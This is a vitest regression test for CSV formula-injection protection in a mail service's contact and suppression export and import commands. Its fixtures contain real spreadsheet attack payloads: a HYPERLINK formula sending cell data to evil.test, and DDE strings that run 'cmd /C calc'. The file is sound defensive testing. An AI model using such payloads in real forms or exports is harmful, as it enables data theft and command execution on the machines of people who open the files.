/**
 * Issue 28 L3: `sendwell export` wrote what form visitors typed as is, so a first name of
 * `=HYPERLINK(...)` became a live formula in the spreadsheet of whoever opened the export (CSV
 * formula injection). Every CSV the service writes now puts a single quote before a cell starting
 * with =, +, -, @, tab or carriage return (OWASP), and import takes it off again, so export then
 * import still loses nothing.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI_TIMEOUT, sendwell } from '../helpers/cli.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { tenant } from '../sending/send-helpers.ts';

let server: TestServer;
let dir: string;
beforeAll(async () => {
  server = await startTestServer();
  dir = mkdtempSync(join(tmpdir(), 'sendwell-l3-'));
});
afterAll(async () => {
  await server?.close();
  rmSync(dir, { recursive: true, force: true });
});

const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
const FORMULA_CHARACTERS = /^[=+\-@\t\r]/;

describe('issue 28 L3: CSV exports are safe to open in a spreadsheet', { timeout: CLI_TIMEOUT }, () => {
  it('L3: a form visitor\'s =, +, -, @ cells are exported with a leading quote, and import reads them back as typed', async () => {
    const t = await tenant(server);
    const list = await t.call('POST', '/api/v1/lists', { name: 'Public', is_public: true, opt_in: 'single' });
    const form = await t.call('POST', '/api/v1/forms', {
      name: 'Signup',
      list_ids: [list.body.data.id],
      fields: [
        { name: 'email', label: 'E-mail', required: true },
        { name: 'first_name', label: 'First name', required: false },
        { name: 'last_name', label: 'Last name', required: false },
        { name: 'custom_fields.company', label: 'Company', required: false },
      ],
    });
    expect(form.status, form.text).toBe(200);
    const visitor = { email: 'visitor@l3.test', first_name: FORMULA, last_name: '@SUM(1+1)', 'custom_fields.company': '-2+3+cmd|\' /C calc\'!A0' };
    const posted = await server.request('POST', `/f/${form.body.data.uid}`, { body: visitor, headers: { accept: 'application/json', 'x-forwarded-for': '2001:db8::13' } });
    expect(posted.status, posted.text).toBe(200);
    await t.contact({ email: 'phone@l3.test', phone: '+33612345678', first_name: 'Tab', last_name: '\t=1+1' });

    const exported = await sendwell(['export', '--account', String(t.accountId)], server.env);
    expect(exported.code, exported.stderr).toBe(0);
    const rows = parse(exported.stdout) as string[][];
    // No cell of the file, header included, starts as a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_CHARACTERS);
    const [header, ...records] = rows;
    const byEmail = new Map(records.map((r) => [r[0], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
    expect(byEmail.get('visitor@l3.test')).toMatchObject({ first_name: `'${FORMULA}`, last_name: "'@SUM(1+1)", company: `'-2+3+cmd|' /C calc'!A0` });
    expect(byEmail.get('phone@l3.test')).toMatchObject({ phone: "'+33612345678", last_name: "'\t=1+1" });

    // Exports are for spreadsheets, and still import losslessly: the quote comes off again.
    const target = await tenant(server);
    const file = join(dir, 'export.csv');
    writeFileSync(file, exported.stdout);
    const imported = await sendwell(['import', file, '--account', String(target.accountId)], server.env);
    expect(imported.code, imported.stderr).toBe(0);
    expect(JSON.parse(imported.stdout)).toMatchObject({ created: 2, failed: 0 });
    expect(await target.getContact('visitor@l3.test')).toMatchObject({ first_name: FORMULA, last_name: '@SUM(1+1)', custom_fields: { company: '-2+3+cmd|\' /C calc\'!A0' } });
    // (import trims each cell, as it always has, so the tab itself does not come back)
    expect(await target.getContact('phone@l3.test')).toMatchObject({ phone: '+33612345678', last_name: '=1+1' });
  });

  it('L3: `sendwell suppressions export` quotes a formula-like reason too, and its import reads it back', async () => {
    const t = await tenant(server);
    const added = await t.call('POST', '/api/v1/suppressions', { value: 'bad@l3.test', reason: '=cmd|"/C calc"!A0' });
    expect(added.status, added.text).toBe(200);
    const exported = await sendwell(['suppressions', 'export', '--account', String(t.accountId)], server.env);
    expect(exported.code, exported.stderr).toBe(0);
    const [, row] = parse(exported.stdout) as string[][];
    expect(row.slice(0, 2)).toEqual(['bad@l3.test', `'=cmd|"/C calc"!A0`]);

    const target = await tenant(server);
    const file = join(dir, 'suppressions.csv');
    writeFileSync(file, exported.stdout);
    const imported = await sendwell(['suppressions', 'import', file, '--account', String(target.accountId)], server.env);
    expect(imported.code, imported.stderr).toBe(0);
    const list = await target.call('GET', '/api/v1/suppressions');
    expect(JSON.stringify(list.body)).toContain(JSON.stringify('=cmd|"/C calc"!A0'));
  });
});
